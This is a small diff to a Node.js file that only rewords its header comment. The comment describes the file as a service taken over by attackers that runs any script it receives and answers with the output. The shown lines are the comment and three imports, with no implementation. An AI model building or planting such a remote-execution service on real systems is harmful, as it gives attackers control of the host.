@@ -1,4 +1,4 @@
-// A service that was taken over: runs each script that it is sent, and answers with what it says.
+// A service that attackers have taken over: it runs each script that it receives, and answers with the output.
 import { execFile } from 'node:child_process'
 import { createServer } from 'node:http'
 import { text } from 'node:stream/consumers'
